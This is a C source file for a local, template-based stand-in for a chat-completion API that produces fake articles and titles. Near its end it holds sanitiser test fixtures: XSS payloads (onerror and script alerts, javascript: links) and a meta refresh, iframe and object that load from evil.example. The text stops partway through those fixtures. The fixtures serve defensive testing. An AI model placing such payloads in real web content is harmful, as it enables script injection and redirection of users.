/* SPDX-License-Identifier: ISC (see LICENSE) */
/*
 * canned.c: the text generator behind llm-standin, the project's local
 * stand-in for the OpenAI Chat Completions API.  Nothing here is a
 * language model: it fills fixed templates with the topics, links and
 * source excerpt found in the prompt, choosing among them with a PRNG
 * seeded from a hash of the prompt.  That keeps the demo and the tests
 * offline, free and deterministic while the replies still look like the
 * articles and titles the real service would return.
 */
#include <ctype.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "buf.h"
#include "compat.h"
#include "canned.h"
#include "utf8.h"
#include "xmalloc.h"

#define GEN_TOPICS_MAX		8
#define GEN_TOPIC_LEN		48
#define GEN_URLS_MAX		8
#define GEN_URL_LEN		512
#define GEN_EXCERPT_WORDS	24
#define GEN_TITLE_MAX		60

struct canned_ctx {
	char		*g_topics[GEN_TOPICS_MAX];
	size_t		 g_ntopics;
	char		*g_urls[GEN_URLS_MAX];	/* the primary one first */
	size_t		 g_nurls;
	char		*g_excerpt;		/* NULL when none */
	char		*g_slug;
	uint64_t	 g_rng;
};

static const char *const canned_fillers[] = {
	"modern software", "the surrounding tooling", "day-to-day operations"
};

static const char *const canned_title_patterns[] = {
	"What Changed and Why It Matters",
	"A Practical Guide for Busy Teams",
	"Lessons From Real-World Use",
	"Where It Fits in Your Stack",
	"The Trade-offs Worth Knowing",
	"From First Steps to Production",
	"How Teams Are Putting It to Work",
	"What Actually Works Today",
};

static const char *const canned_openers[] = {
	"Interest in {T1} keeps growing, and the latest discussion around it "
	    "shows why practitioners are paying close attention.",
	"{T1C} has moved from a niche concern to something many engineering "
	    "teams now deal with every week.",
	"Few areas of software have changed as quickly over the past year as "
	    "{T1}, and the pace shows no sign of slowing.",
	"Every few months a development in {T1} forces teams to revisit "
	    "assumptions they thought were settled.",
	"There is a practical story behind the recent attention on {T1}, and "
	    "it is more interesting than the headlines suggest.",
	"Anyone who works with {T1} will recognise the tension between moving "
	    "quickly and keeping systems dependable.",
};

static const char *const canned_framing[] = {
	"This article looks at what {SRC} describes, places it in the wider "
	    "context of {T2}, and draws out what it means for day-to-day work.",
	"Starting from {SRC}, we walk through the main ideas, how they connect "
	    "to {T2}, and where the real trade-offs lie.",
	"Using {SRC} as the starting point, the sections below separate the "
	    "durable lessons from the passing details and relate them to {T2}.",
	"The material in {SRC} offers a useful lens, especially for readers "
	    "who also care about {T2}.",
};

static const char *const canned_quoting[] = {
	"The original write-up frames it this way: \"{EXCERPT}\"",
	"In the words of the original post: \"{EXCERPT}\"",
	"The discussion starts from a simple statement: \"{EXCERPT}\"",
};

static const char *const canned_intro_close[] = {
	"The goal is not to repeat the announcement but to explain how the "
	    "pieces fit together and what to watch next.",
	"Along the way we look at {T3}, common pitfalls, and a small example "
	    "you can adapt.",
	"By the end you should have a clear picture of where this fits and how "
	    "to evaluate it for your own projects.",
};

static const char *const canned_takeaways[] = {
	"{T1C} rewards small, well-measured experiments more than large "
	    "rewrites.",
	"Clear ownership and good defaults matter as much as the underlying "
	    "technology.",
	"The interaction between {T1} and {T2} is where most surprises appear.",
	"Observability should be in place before changes reach production, "
	    "not after.",
	"Documentation and shared conventions shorten onboarding for new "
	    "contributors.",
	"Costs, both in money and in attention, deserve a line in every design "
	    "review.",
	"Security reviews are cheaper when they start alongside the first "
	    "prototype.",
	"Measuring before and after each change keeps the conversation "
	    "grounded in evidence.",
	"Backward compatibility is a feature, and breaking it should be a "
	    "deliberate decision.",
	"{T2C} practices mature fastest in teams that write down what they "
	    "learn.",
	"Automation pays off once a task has been done by hand often enough "
	    "to understand it.",
	"Incremental adoption of {T1} lowers risk and makes rollbacks "
	    "straightforward.",
};

static const char *const canned_headings[] = {
	"Why {T1T} Matters Now",
	"How It Works in Practice",
	"Where {T2T} Fits In",
	"Trade-offs Worth Weighing",
	"Getting Started with {T1T}",
	"Running {T1T} in Production",
	"Common Pitfalls and How to Avoid Them",
	"What the Community Is Saying",
	"Measuring the Impact",
	"Lessons for {T2T} Teams",
	"The Bigger Picture",
	"A Closer Look at {T3T}",
};

static const char *const canned_sentences[] = {
	"The first thing to notice is how much of the work around {T1} is "
	    "about coordination rather than raw technology.",
	"Teams that succeed with {A} usually start with a narrow problem, "
	    "measure it carefully, and only then widen the scope.",
	"A recurring theme is that defaults matter: most users never change "
	    "them, so a sensible default quietly shapes thousands of systems.",
	"When {T1} meets {T2}, the boundaries between components become the "
	    "place where bugs and delays tend to hide.",
	"It helps to separate what is genuinely new from what is a familiar "
	    "idea in a different package.",
	"Much of the recent progress comes from better tooling rather than "
	    "from any single breakthrough.",
	"Engineers who have lived with {A} for a while tend to describe it as "
	    "a set of habits rather than a product.",
	"Performance numbers are only meaningful alongside the workload that "
	    "produced them, so it is worth reproducing them on your own data.",
	"One practical approach is to run the new path next to the old one "
	    "for a while and compare the results before switching over.",
	"Failure modes deserve as much attention as the happy path, because "
	    "they decide how a system behaves on its worst day.",
	"The learning curve is real, but most of it is front-loaded into the "
	    "first few weeks.",
	"Good documentation turns a clever idea into something a whole team "
	    "can maintain.",
	"Smaller organisations often benefit first, since they can change "
	    "direction without long approval chains.",
	"Larger organisations, on the other hand, gain the most from "
	    "consistency once the approach is proven.",
	"Nothing here removes the need for careful code review and solid "
	    "automated tests.",
	"The conversation around {T2} has shifted from whether to adopt it to "
	    "how to adopt it responsibly.",
	"Dependencies are a hidden cost: each one brings updates, advisories "
	    "and occasional breaking changes.",
	"Keeping configuration in version control makes every change visible "
	    "and every rollback simple.",
	"Latency, throughput and cost pull in different directions, and every "
	    "design settles on some balance between them.",
	"It is tempting to optimise early, but the biggest wins usually come "
	    "from removing work rather than speeding it up.",
	"Clear interfaces let different parts of a system evolve at their own "
	    "pace.",
	"Several contributors point out that {A} works best when its limits "
	    "are stated openly.",
	"A useful exercise is to write down what would have to be true for the "
	    "approach to fail, and then check those assumptions.",
	"Security is easier to build in than to bolt on, especially when {T1} "
	    "touches credentials or user data.",
	"Monitoring should answer a simple question quickly: is the system "
	    "doing what users expect right now?",
	"Logs, metrics and traces each tell part of the story, and together "
	    "they shorten the time to a diagnosis.",
	"Rollouts go more smoothly when they are gradual, observable and easy "
	    "to reverse.",
	"Open standards reduce lock-in and make it easier to swap one "
	    "component for another later.",
	"The economics matter too: a solution that is cheap to start can "
	    "become expensive at scale, and the reverse is also true.",
	"Newcomers often underestimate how much operational knowledge lives in "
	    "the heads of a few experienced people.",
	"Writing that knowledge down, even as short runbooks, pays off the "
	    "first time something breaks at night.",
	"{T3C} adds another dimension, since it changes which trade-offs are "
	    "acceptable.",
	"There is no universal answer; the right choice depends on team size, "
	    "risk tolerance and existing systems.",
	"Benchmarks published by vendors are a starting point, not a verdict.",
	"Feedback so far suggests that the rough edges are in setup and "
	    "migration rather than in daily use.",
	"A steady release cadence makes upgrades routine instead of stressful.",
	"Testing against realistic data catches problems that synthetic "
	    "examples never reveal.",
	"The most reliable systems tend to be the boring ones, built from "
	    "parts that are well understood.",
	"Where {A} really shines is in repetitive work that used to need "
	    "manual attention.",
	"Treating infrastructure and workflows as code brings the same review "
	    "discipline that application code already enjoys.",
	"Caching can hide a slow dependency for a while, but it also adds a "
	    "new source of stale data.",
	"Retries with backoff are a simple tool that keeps many small outages "
	    "from becoming large ones.",
	"Capacity planning is less about predicting the future and more about "
	    "knowing how quickly you can react.",
	"Clear error messages save more time than almost any other investment "
	    "in developer experience.",
	"It is worth asking who maintains a project, how it is funded and how "
	    "quickly it responds to issues.",
	"For many teams the deciding factor is not features but how well the "
	    "tool fits existing habits.",
	"Incremental migration lets a team learn while still shipping, instead "
	    "of pausing everything for a rewrite.",
	"The people closest to the problem usually know where the real "
	    "bottlenecks are, so it pays to involve them early.",
	"Reproducible builds and pinned versions remove a whole class of "
	    "works-on-my-machine problems.",
	"Over time the practices around {T1} tend to matter more than the "
	    "specific tools chosen today.",
	"A short pilot with explicit success criteria is often the fastest way "
	    "to settle a debate.",
	"Usability deserves attention even in internal tools, because every "
	    "user is somebody's colleague.",
};

static const char *const canned_link_sentences[] = {
	"For the details, [the original write-up]({URL2}) is worth reading in "
	    "full.",
	"More background is available in [the primary reference]({URL2}).",
	"[The announcement]({URL2}) covers the specifics in more depth.",
};

static const char *const canned_code_intros[] = {
	"A small example makes the idea concrete:",
	"The following snippet shows the shape of a minimal setup:",
	"Here is a compact sketch to adapt to your own environment:",
};

static const char *const canned_code_blocks[] = {
	"```bash\n"
	"mkdir -p ~/src/{SLUG}-trial && cd ~/src/{SLUG}-trial\n"
	"printf 'topic=%s\\n' '{SLUG}' > settings.env\n"
	"time ./run-checks.sh --verbose 2>&1 | tee run.log\n"
	"```",
	"```yaml\n"
	"# a minimal starting configuration\n"
	"{SLUG}:\n"
	"  enabled: true\n"
	"  log_level: info\n"
	"  limits:\n"
	"    max_concurrency: 8\n"
	"    timeout_seconds: 30\n"
	"```",
	"```python\n"
	"import time\n"
	"\n"
	"def measure(fn, runs=5):\n"
	"    \"\"\"Time a callable a few times and keep the best run.\"\"\"\n"
	"    best = float(\"inf\")\n"
	"    for _ in range(runs):\n"
	"        start = time.perf_counter()\n"
	"        fn()\n"
	"        best = min(best, time.perf_counter() - start)\n"
	"    return best\n"
	"```",
	"```json\n"
	"{\n"
	"  \"name\": \"{SLUG}\",\n"
	"  \"retries\": 3,\n"
	"  \"backoff_ms\": [250, 500, 1000],\n"
	"  \"log_level\": \"info\"\n"
	"}\n"
	"```",
	"```c\n"
	"/* retry a flaky call with a bounded, doubling delay */\n"
	"for (int attempt = 0, delay = 100; attempt < 5; attempt++) {\n"
	"\tif (do_request() == 0)\n"
	"\t\tbreak;\n"
	"\tusleep(delay * 1000);\n"
	"\tdelay *= 2;\n"
	"}\n"
	"```",
};

static const char *const canned_conclusions[] = {
	"{T1C} is neither a silver bullet nor a passing trend; it is a set of "
	    "tools and practices that reward careful use.",
	"The developments discussed here point in a clear direction: simpler "
	    "operations, better feedback and fewer surprises.",
	"The best next step is usually a small, measurable experiment in a part "
	    "of the system you understand well.",
	"Keep an eye on how {T2} evolves alongside it, since the two "
	    "increasingly shape each other.",
	"Whatever you decide, write down the reasoning so that future "
	    "maintainers can revisit it with context.",
	"Progress in this space is steady rather than dramatic, which is good "
	    "news for teams that value stability.",
	"With sensible defaults, good observability and a willingness to "
	    "iterate, most teams can adopt these ideas safely.",
};

static const char *const canned_further[] = {
	"Readers who want to go further can start with [the supporting "
	    "material]({URL3}).",
	"A good next read is [this related reference]({URL3}).",
};

/* 64-bit FNV-1a over len bytes of s. */
uint64_t
canned_fnv1a(const char *s, size_t len)
{
	uint64_t	h = UINT64_C(14695981039346656037);
	size_t		i;

	for (i = 0; i < len; i++) {
		h ^= (unsigned char)s[i];
		h *= UINT64_C(1099511628211);
	}
	return (h);
}

/* The number of UTF-8 code points in len bytes of s. */
size_t
canned_utf8_chars(const char *s, size_t len)
{
	return (utf8_count(s, len));
}

/* 1 when text asks for a title only ("Return ONLY the title"). */
int
canned_is_title_request(const char *text)
{
	return (strcasestr(text, "return only the title") != NULL);
}

/* splitmix64: the next value of the generator whose state is *s. */
static uint64_t
canned_next(uint64_t *s)
{
	uint64_t	z;

	z = (*s += UINT64_C(0x9e3779b97f4a7c15));
	z = (z ^ (z >> 30)) * UINT64_C(0xbf58476d1ce4e5b9);
	z = (z ^ (z >> 27)) * UINT64_C(0x94d049bb133111eb);
	return (z ^ (z >> 31));
}

static size_t
canned_pick(struct canned_ctx *g, size_t n)
{
	return ((size_t)(canned_next(&g->g_rng) % n));
}

/* Fill order[0..n) with a permutation of 0..n-1 drawn from g. */
static void
canned_shuffle(struct canned_ctx *g, size_t *order, size_t n)
{
	size_t	i, j, t;

	for (i = 0; i < n; i++)
		order[i] = i;
	for (i = n; i > 1; i--) {
		j = canned_pick(g, i);
		t = order[i - 1];
		order[i - 1] = order[j];
		order[j] = t;
	}
}

/*
 * Find the first line of prompt that starts, after blanks and an optional
 * "- " or "* " bullet, with prefix (case-insensitive).  Returns the rest
 * of that line without surrounding blanks, owned by the caller, or NULL.
 */
static char *
canned_line_value(const char *prompt, const char *prefix)
{
	const char	*line, *p, *end;
	size_t		 plen = strlen(prefix);

	for (line = prompt; *line != '\0'; line = end + 1) {
		if ((end = strchr(line, '\n')) == NULL)
			end = line + strlen(line);
		p = line;
		while (p < end && (*p == ' ' || *p == '\t'))
			p++;
		if (end - p >= 2 && (*p == '-' || *p == '*') && p[1] == ' ')
			p += 2;
		if ((size_t)(end - p) >= plen &&
		    strncasecmp(p, prefix, plen) == 0) {
			p += plen;
			while (p < end && isspace((unsigned char)*p))
				p++;
			while (end > p && isspace((unsigned char)end[-1]))
				end--;
			return (xstrndup(p, (size_t)(end - p)));
		}
		if (*end == '\0')
			break;
	}
	return (NULL);
}

/*
 * Append to b the bytes of s[0..len) that are safe inside markdown prose,
 * collapsing runs of blanks into one space.
 */
static void
canned_put_clean(struct buf *b, const char *s, size_t len)
{
	unsigned char	c;
	size_t		i;
	int		space = 0;

	for (i = 0; i < len; i++) {
		c = (unsigned char)s[i];
		if (isspace(c)) {
			space = 1;
			continue;
		}
		if (c < 0x80 && !isalnum(c) && strchr("-+./&',:;!?%=@",
		    c) == NULL)
			continue;
		if (space && b->b_len > 0)
			buf_putc(b, ' ');
		space = 0;
		buf_putc(b, (char)c);
	}
}

/* Cut b back to at most max bytes without splitting a UTF-8 sequence. */
static void
canned_cut(struct buf *b, size_t max)
{
	size_t	n = b->b_len;

	if (n <= max)
		return;
	n = max;
	while (n > 0 && ((unsigned char)b->b_data[n] & 0xc0) == 0x80)
		n--;
	while (n > 0 && b->b_data[n - 1] == ' ')
		n--;
	b->b_len = n;
	b->b_data[n] = '\0';
}

static void
canned_find_topics(struct canned_ctx *g, const char *prompt)
{
	struct buf	 b;
	char		*line, *p, *comma;

	if ((line = canned_line_value(prompt, "TOPICS:")) == NULL)
		return;
	buf_init(&b);
	for (p = line; p != NULL && g->g_ntopics < GEN_TOPICS_MAX;
	    p = comma == NULL ? NULL : comma + 1) {
		if ((comma = strchr(p, ',')) != NULL)
			*comma = '\0';
		buf_reset(&b);
		canned_put_clean(&b, p, strlen(p));
		canned_cut(&b, GEN_TOPIC_LEN);
		if (b.b_len > 0)
			g->g_topics[g->g_ntopics++] = xstrdup(buf_cstr(&b));
	}
	buf_release(&b);
	free(line);
}

/*
 * Copy the URL starting at s (which begins with "http") if it looks like
 * one: owned by the caller, or NULL.
 */
static char *
canned_url_at(const char *s)
{
	size_t	n = 0;

	while (s[n] != '\0' && !isspace((unsigned char)s[n]) &&
	    strchr("\"'<>()[]{}|\\^`", s[n]) == NULL)
		n++;
	while (n > 0 && strchr(".,;:!?", s[n - 1]) != NULL)
		n--;
	if (n < 12 || n > GEN_URL_LEN)
		return (NULL);
	if (strncmp(s, "http://", 7) != 0 && strncmp(s, "https://", 8) != 0)
		return (NULL);
	return (xstrndup(s, n));
}

static void
canned_add_url(struct canned_ctx *g, char *url)
{
	size_t	i;

	if (url == NULL)
		return;
	for (i = 0; i < g->g_nurls; i++) {
		if (strcmp(g->g_urls[i], url) == 0) {
			free(url);
			return;
		}
	}
	if (g->g_nurls == GEN_URLS_MAX) {
		free(url);
		return;
	}
	g->g_urls[g->g_nurls++] = url;
}

/*
 * Collect links: the "Primary source:" line first, then "Primary URL:",
 * then any other http(s) URL in the prompt, without duplicates.
 */
static void
canned_find_urls(struct canned_ctx *g, const char *prompt)
{
	static const char *const prefixes[] = {
		"Primary source:", "Primary URL:"
	};
	const char	*p;
	char		*line, *h;
	size_t		 i;

	for (i = 0; i < nitems(prefixes); i++) {
		if ((line = canned_line_value(prompt, prefixes[i])) == NULL)
			continue;
		if ((h = strstr(line, "http")) != NULL)
			canned_add_url(g, canned_url_at(h));
		free(line);
	}
	for (p = prompt; (p = strstr(p, "http")) != NULL; p += 4)
		canned_add_url(g, canned_url_at(p));
}

/*
 * The first words of the text after "SOURCE MATERIAL", up to the first
 * blank line or metadata line, cleaned for quoting.  Stored in g or left
 * NULL when there is too little text.
 */
static void
canned_find_excerpt(struct canned_ctx *g, const char *prompt)
{
	static const char *const stops[] = {
		"Author:", "Primary URL:", "Primary source:", "TOPICS:",
		"RESEARCH CONTEXT", "EVIDENCE PACK"
	};
	struct buf	 raw, b;
	const char	*p, *line, *end;
	size_t		 i, words = 0;
	int		 stop, cut = 0;

	if ((p = strstr(prompt, "SOURCE MATERIAL")) == NULL)
		return;
	p += strlen("SOURCE MATERIAL");
	while (*p != '\0' && *p != '\n' && strchr(" \t:=-", *p) != NULL)
		p++;
	buf_init(&raw);
	for (line = p; *line != '\0'; line = end + 1) {
		if ((end = strchr(line, '\n')) == NULL)
			end = line + strlen(line);
		while (line < end && isspace((unsigned char)*line))
			line++;
		stop = 0;
		for (i = 0; i < nitems(stops); i++)
			if (strncmp(line, stops[i], strlen(stops[i])) == 0)
				stop = 1;
		if (stop || (line == end && raw.b_len > 0) || raw.b_len > 4096)
			break;
		buf_append(&raw, line, (size_t)(end - line));
		buf_putc(&raw, ' ');
		if (*end == '\0')
			break;
	}
	buf_init(&b);
	canned_put_clean(&b, raw.b_data, raw.b_len);
	buf_release(&raw);
	for (i = 0; i < b.b_len; i++) {
		if (b.b_data[i] == ' ' && ++words == GEN_EXCERPT_WORDS) {
			b.b_len = i;
			b.b_data[i] = '\0';
			cut = 1;
			break;
		}
	}
	if (!cut && b.b_len > 0)
		words++;
	while (b.b_len > 0 && strchr(" ,;:-", b.b_data[b.b_len - 1]) != NULL)
		b.b_data[--b.b_len] = '\0';
	if (words >= 3) {
		if (cut)
			buf_puts(&b, "...");
		g->g_excerpt = buf_detach(&b);
	}
	buf_release(&b);
}

/* Lower-case ASCII slug of s ("Cloud Computing" -> "cloud-computing"). */
static char *
canned_slugify(const char *s)
{
	struct buf	b;
	int		dash = 0;

	buf_init(&b);
	for (; *s != '\0'; s++) {
		if (isalnum((unsigned char)*s) && (unsigned char)*s < 0x80) {
			if (dash && b.b_len > 0)
				buf_putc(&b, '-');
			dash = 0;
			buf_putc(&b, (char)tolower((unsigned char)*s));
		} else
			dash = 1;
	}
	if (b.b_len == 0)
		buf_puts(&b, "project");
	return (buf_detach(&b));
}

static void
canned_ctx_init(struct canned_ctx *g, const char *prompt)
{
	memset(g, 0, sizeof(*g));
	g->g_rng = canned_fnv1a(prompt, strlen(prompt));
	canned_find_topics(g, prompt);
	canned_find_urls(g, prompt);
	canned_find_excerpt(g, prompt);
	g->g_slug = canned_slugify(g->g_ntopics > 0 ? g->g_topics[0] :
	    canned_fillers[0]);
}

static void
canned_ctx_release(struct canned_ctx *g)
{
	size_t	i;

	for (i = 0; i < g->g_ntopics; i++)
		free(g->g_topics[i]);
	for (i = 0; i < g->g_nurls; i++)
		free(g->g_urls[i]);
	free(g->g_excerpt);
	free(g->g_slug);
}

/* Topic i (0-based), or a neutral filler phrase when there are fewer. */
static const char *
canned_topic(const struct canned_ctx *g, size_t i)
{
	if (i < g->g_ntopics)
		return (g->g_topics[i]);
	return (canned_fillers[i % nitems(canned_fillers)]);
}

static const char *const canned_small_words[] = {
	"a", "an", "and", "as", "at", "by", "for", "in", "of", "on", "or",
	"the", "to", "vs", "with"
};

/* 1 when the n bytes at w are a short joining word ("and", "of"). */
static int
canned_small_word_len(const char *w, size_t n)
{
	size_t	i;

	for (i = 0; i < nitems(canned_small_words); i++)
		if (strlen(canned_small_words[i]) == n &&
		    strncasecmp(w, canned_small_words[i], n) == 0)
			return (1);
	return (0);
}

static int
canned_is_small_word(const char *w)
{
	return (canned_small_word_len(w, strlen(w)));
}

/*
 * Append s to b in headline case: every word capitalised except short
 * joining words, and common acronyms in upper case.
 */
static void
canned_put_titlecase(struct buf *b, const char *s)
{
	static const char *const acronyms[] = {
		"ai", "api", "apis", "aws", "cli", "cpu", "css", "db", "dns",
		"gpu", "html", "http", "ios", "json", "jvm", "llm", "llms", "ml",
		"os", "sql", "ssh", "tls", "ui", "ux", "vm", "wasm"
	};
	const char	*w;
	size_t		 n, i, k;
	int		 first = 1, done;

	while (*s != '\0') {
		if (*s == ' ' || *s == '-') {
			buf_putc(b, *s++);
			continue;
		}
		w = s;
		n = strcspn(w, " -");
		s += n;
		done = 0;
		for (i = 0; i < nitems(acronyms) && !done; i++) {
			if (strlen(acronyms[i]) == n &&
			    strncasecmp(w, acronyms[i], n) == 0) {
				for (k = 0; k < n; k++)
					buf_putc(b, (char)toupper(
					    (unsigned char)w[k]));
				done = 1;
			}
		}
		if (!done && !first && canned_small_word_len(w, n)) {
			for (k = 0; k < n; k++)
				buf_putc(b, (char)tolower((unsigned char)w[k]));
			done = 1;
		}
		if (!done) {
			buf_putc(b, (char)toupper((unsigned char)w[0]));
			buf_append(b, w + 1, n - 1);
		}
		first = 0;
	}
}

/* Append s to b with its first letter in upper case. */
static void
canned_put_capital(struct buf *b, const char *s)
{
	if (*s == '\0')
		return;
	buf_putc(b, (char)toupper((unsigned char)*s));
	buf_puts(b, s + 1);
}

/* The URL used by the n-th link (0-based), cycling through those found. */
static const char *
canned_url(const struct canned_ctx *g, size_t n)
{
	if (g->g_nurls == 0)
		return (NULL);
	return (g->g_urls[n % g->g_nurls]);
}

/*
 * Append tmpl to b with its {KEY} fields filled in from g.  Keys: T1..T3
 * (topics or fillers), T1C.. (capitalised), T1T.. (headline case), A (a
 * random topic), SRC (the link to the primary source), URL2, URL3,
 * SLUG, EXCERPT.  Unknown keys are copied as they are.
 */
static void
canned_expand(struct canned_ctx *g, struct buf *b, const char *tmpl)
{
	const char	*p, *close, *url;
	char		 key[16];
	size_t		 n, i;

	for (p = tmpl; *p != '\0'; p++) {
		if (*p != '{' || (close = strchr(p, '}')) == NULL ||
		    (n = (size_t)(close - p - 1)) == 0 || n >= sizeof(key) ||
		    !isupper((unsigned char)p[1])) {
			buf_putc(b, *p);
			continue;
		}
		memcpy(key, p + 1, n);
		key[n] = '\0';
		if (key[0] == 'T' && key[1] >= '1' && key[1] <= '3' &&
		    (key[2] == '\0' || key[3] == '\0')) {
			i = (size_t)(key[1] - '1');
			if (key[2] == '\0')
				buf_puts(b, canned_topic(g, i));
			else if (key[2] == 'C')
				canned_put_capital(b, canned_topic(g, i));
			else if (key[2] == 'T')
				canned_put_titlecase(b, canned_topic(g, i));
			else {
				buf_putc(b, *p);
				continue;
			}
		} else if (strcmp(key, "A") == 0) {
			buf_puts(b, canned_topic(g, g->g_ntopics > 1 ?
			    canned_pick(g, g->g_ntopics) : 0));
		} else if (strcmp(key, "SRC") == 0) {
			if ((url = canned_url(g, 0)) != NULL)
				buf_printf(b, "[the source](%s)", url);
			else
				buf_puts(b, "the source material");
		} else if (strcmp(key, "URL2") == 0) {
			buf_puts(b, canned_url(g, 1));
		} else if (strcmp(key, "URL3") == 0) {
			buf_puts(b, canned_url(g, 2));
		} else if (strcmp(key, "SLUG") == 0) {
			buf_puts(b, g->g_slug);
		} else if (strcmp(key, "EXCERPT") == 0 &&
		    g->g_excerpt != NULL) {
			buf_puts(b, g->g_excerpt);
		} else {
			buf_putc(b, *p);
			continue;
		}
		p = close;
	}
}

/* Whitespace-separated words in s, as a word counter would count them. */
static size_t
canned_words(const char *s)
{
	size_t	n = 0;
	int	in = 0;

	for (; *s != '\0'; s++) {
		if (isspace((unsigned char)*s))
			in = 0;
		else if (!in) {
			in = 1;
			n++;
		}
	}
	return (n);
}

/*
 * Build a title for prompt: "<first topic>: <pattern>", the pattern chosen
 * by the prompt's hash, the whole at most GEN_TITLE_MAX bytes.  Owned by
 * the caller; never NULL.
 */
char *
canned_title(const char *prompt)
{
	struct canned_ctx	 g;
	struct buf	 b;
	const char	*pattern;
	size_t		 room;
	char		*sp;
	int		 trimmed;

	canned_ctx_init(&g, prompt);
	pattern = canned_title_patterns[canned_fnv1a(prompt, strlen(prompt)) %
	    nitems(canned_title_patterns)];
	buf_init(&b);
	canned_put_titlecase(&b, g.g_ntopics > 0 ? g.g_topics[0] :
	    "Software Engineering");
	room = GEN_TITLE_MAX - 2 - strlen(pattern);
	trimmed = 0;
	while (b.b_len > room && (sp = strrchr(b.b_data, ' ')) != NULL) {
		b.b_len = (size_t)(sp - b.b_data);
		*sp = '\0';
		trimmed = 1;
	}
	/* A cut topic must not end on a joining word ("Models and"). */
	while (trimmed && (sp = strrchr(b.b_data, ' ')) != NULL &&
	    canned_is_small_word(sp + 1)) {
		b.b_len = (size_t)(sp - b.b_data);
		*sp = '\0';
	}
	canned_cut(&b, room);
	buf_puts(&b, ": ");
	buf_puts(&b, pattern);
	canned_ctx_release(&g);
	return (buf_detach(&b));
}

/* Append a paragraph of n sentences taken from order at *next. */
static void
canned_paragraph(struct canned_ctx *g, struct buf *b, size_t *order, size_t *next,
    size_t n)
{
	size_t	i;

	for (i = 0; i < n; i++) {
		if (*next == nitems(canned_sentences)) {
			canned_shuffle(g, order, nitems(canned_sentences));
			*next = 0;
		}
		if (i > 0)
			buf_putc(b, ' ');
		canned_expand(g, b, canned_sentences[order[(*next)++]]);
	}
}

/*
 * Build the markdown article for prompt: an intro, "## Key Takeaways",
 * three or four sections with one code block and a second link, and
 * "## Conclusion", with words words of prose and up to spread more (the
 * sections are filled to that, so the total is a little above it).
 * Owned by the caller; never NULL.
 */
static char *
canned_article_sized(const char *prompt, size_t words_min, size_t spread)
{
	struct canned_ctx	 g;
	struct buf	 b, tail;
	size_t		 order[nitems(canned_sentences)];
	size_t		 heads[nitems(canned_headings)];
	size_t		 take[nitems(canned_takeaways)];
	size_t		 i, next = 0, nsec, ntake, code_sec, link_sec, target;
	size_t		 words, budget, start;

	canned_ctx_init(&g, prompt);
	buf_init(&b);
	buf_init(&tail);
	canned_shuffle(&g, order, nitems(order));
	canned_shuffle(&g, heads, nitems(heads));
	canned_shuffle(&g, take, nitems(take));
	target = words_min + canned_pick(&g, spread);
	nsec = 3 + canned_pick(&g, 2);
	ntake = 3 + canned_pick(&g, 3);
	code_sec = canned_pick(&g, nsec);
	link_sec = (code_sec + 1 + canned_pick(&g, nsec - 1)) % nsec;

	canned_expand(&g, &b, canned_openers[canned_pick(&g, nitems(canned_openers))]);
	buf_putc(&b, ' ');
	canned_expand(&g, &b, canned_framing[canned_pick(&g, nitems(canned_framing))]);
	if (g.g_excerpt != NULL) {
		buf_putc(&b, ' ');
		canned_expand(&g, &b,
		    canned_quoting[canned_pick(&g, nitems(canned_quoting))]);
	}
	buf_putc(&b, ' ');
	canned_expand(&g, &b,
	    canned_intro_close[canned_pick(&g, nitems(canned_intro_close))]);
	buf_puts(&b, "\n\n## Key Takeaways\n\n");
	for (i = 0; i < ntake; i++) {
		buf_puts(&b, "- ");
		canned_expand(&g, &b, canned_takeaways[take[i]]);
		buf_putc(&b, '\n');
	}

	/* The conclusion is built first so the sections can share the rest. */
	buf_puts(&tail, "\n## Conclusion\n\n");
	for (i = 0; i < 3; i++) {
		if (i > 0)
			buf_putc(&tail, ' ');
		canned_expand(&g, &tail, canned_conclusions[(i * 2 +
		    canned_pick(&g, 2)) % nitems(canned_conclusions)]);
	}
	if (g.g_nurls > 2 || (g.g_nurls > 0 && canned_pick(&g, 2) == 0)) {
		buf_putc(&tail, ' ');
		canned_expand(&g, &tail,
		    canned_further[canned_pick(&g, nitems(canned_further))]);
	}
	buf_putc(&tail, '\n');

	words = canned_words(buf_cstr(&b)) + canned_words(buf_cstr(&tail));
	for (i = 0; i < nsec; i++) {
		budget = target > words ? (target - words) / (nsec - i) : 0;
		start = b.b_len;
		buf_puts(&b, "\n## ");
		canned_expand(&g, &b, canned_headings[heads[i]]);
		buf_puts(&b, "\n\n");
		canned_paragraph(&g, &b, order, &next, 3 + canned_pick(&g, 2));
		if (i == link_sec && g.g_nurls > 0) {
			buf_putc(&b, ' ');
			canned_expand(&g, &b, canned_link_sentences[canned_pick(&g,
			    nitems(canned_link_sentences))]);
		}
		buf_puts(&b, "\n\n");
		if (i == code_sec) {
			canned_expand(&g, &b, canned_code_intros[canned_pick(&g,
			    nitems(canned_code_intros))]);
			buf_puts(&b, "\n\n");
			canned_expand(&g, &b, canned_code_blocks[canned_pick(&g,
			    nitems(canned_code_blocks))]);
			buf_puts(&b, "\n\n");
		}
		while (canned_words(b.b_data + start) < budget) {
			canned_paragraph(&g, &b, order, &next,
			    3 + canned_pick(&g, 2));
			buf_puts(&b, "\n\n");
		}
		words += canned_words(b.b_data + start);
		/* Drop the blank line before the next heading's own. */
		b.b_len--;
		b.b_data[b.b_len] = '\0';
	}
	buf_append(&b, tail.b_data, tail.b_len);
	buf_release(&tail);
	canned_ctx_release(&g);
	return (buf_detach(&b));
}

/* The article of a normal reply: about 640 to 890 words. */
char *
canned_article(const char *prompt)
{
	return (canned_article_sized(prompt, 640, 180));
}

/*
 * Raw HTML a sanitiser must remove, for canned_article_hostile(): the
 * first part follows the intro, the second comes before the conclusion.
 * Each hostile construct carries a HOSTILE-* marker where the sanitiser
 * must take it out (in the element's content, an event handler or a URL
 * with a bad scheme), so a page built from it must hold none of them.
 */
static const char canned_hostile_intro[] =
    "A short summary of the release notes follows."
    "<img src=\"x\" onerror=\"alert(1)//HOSTILE-ONERROR\"> For every "
    "detail, see [the release notes](javascript:alert(1)//HOSTILE-MDJSURL) "
    "or <a href=\"javascript:alert(1)//HOSTILE-JSURL\">the changelog</a>."
    "\n\n<script>alert(1)//HOSTILE-SCRIPT</script>\n\n"
    "<style>body{display:none} /* HOSTILE-STYLE */</style>\n\n"
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/"
    "HOSTILE-META\">";

static const char canned_hostile_embeds[] =
    "<iframe src=\"https://evil.example/HOSTILE-IFRAME\" width=\"640\" "
    "height=\"360\"></iframe>\n\n"
    "<object data=\"https://evil.example/HOSTILE-OBJECT.swf\" "
    "type=\"application/x-shockwave-flash\"></object>\n\n"
